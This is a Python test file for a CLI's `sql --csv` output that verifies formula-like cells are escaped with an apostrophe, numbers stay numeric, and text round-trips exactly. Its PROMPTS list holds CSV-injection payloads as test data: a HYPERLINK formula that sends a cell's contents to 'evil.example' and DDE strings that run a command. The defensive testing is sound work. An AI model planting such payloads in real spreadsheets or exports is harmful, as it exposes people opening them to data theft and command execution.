"""`sql --csv` may be opened in a spreadsheet: no cell of it is computed, numbers stay numbers, and nothing is lost."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from extend_pipeline.commands.warehouse.values import to_csv_cell
from extend_pipeline_tests.cli.conftest import Cli
from extend_pipeline_tests.support.home.homes import video
from extend_pipeline_tests.support.user_texts import check_user_text

PROMPTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'already marked",
    "a plain one, with a comma and a \"quote\"",
    "two\nlines =1+1",
]  # fmt: skip
COMPUTED = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def restored(cell: str) -> str:
    """Return the exact text of a cell, restored as the help of `sql` describes."""
    return cell.removeprefix("'") if cell.startswith("'") else cell


def test_prompts_that_look_like_formulas_come_out_as_text(home_of: Callable[..., Cli]) -> None:
    videos = [video(f"v{number:02}", extend={"steps": 1, "prompt": prompt}) for number, prompt in enumerate(PROMPTS)]
    run = home_of(*videos)
    assert run("advance", "--until-idle", "--max-seconds", "60").exit_code == 0

    result = run("sql", "SELECT video_key, prompt FROM extension_requests ORDER BY video_key", "--csv")

    header, *rows = read(result.stdout_bytes.decode())  # CliRunner's text has other line ends
    assert header == ["video_key", "prompt"]
    assert len(rows) == len(PROMPTS)
    assert not any(cell.startswith(COMPUTED) for row in rows for cell in row)
    document = run.json("sql", "SELECT prompt FROM extension_requests ORDER BY video_key")
    assert [restored(row[1]) for row in rows] == [row[0] for row in document["rows"]] == PROMPTS


@pytest.mark.parametrize(
    ("query", "cell"),
    [
        ("SELECT -3.50::DECIMAL(9, 2)", "-3.50"),
        ("SELECT -7", "-7"),
        ("SELECT -0.25::DOUBLE", "-0.25"),
        ("SELECT '-3.50'", "'-3.50"),
        ("SELECT NULL", ""),
        ("SELECT ''", ""),
        ("SELECT TIMESTAMPTZ '2026-11-01 08:00:00Z'", "2026-11-01T08:00:00Z"),
        ("SELECT ['=1', 'b']", '["=1", "b"]'),
        ("SELECT INTERVAL '-1 day'", "'-1 day, 0:00:00"),
        ("SELECT '1' AS \"=1+1\"", "1"),
    ],
)
def test_numbers_stay_numbers_and_texts_like_formulas_are_marked(
    query: str, cell: str, home_of: Callable[..., Cli]
) -> None:
    run = home_of()
    assert run("publish").exit_code == 0
    header, row = read(run("sql", query, "--csv").stdout)
    assert row == [cell]
    assert not header[0].startswith(COMPUTED)


@given(st.text(max_size=20))
def test_every_text_comes_back_exactly(text: str) -> None:
    cell = to_csv_cell(text)
    assert not cell.startswith(COMPUTED)
    assert restored(cell) == text


@given(st.decimals(allow_nan=False, allow_infinity=False) | st.integers())
def test_a_number_is_never_marked(number: Decimal | int) -> None:
    assert not to_csv_cell(number).startswith("'")


def test_the_help_of_sql_states_the_rule_for_csv(tmp_path: Path) -> None:
    check_user_text(" ".join(Cli(tmp_path)("sql", "--help").stdout.split()))
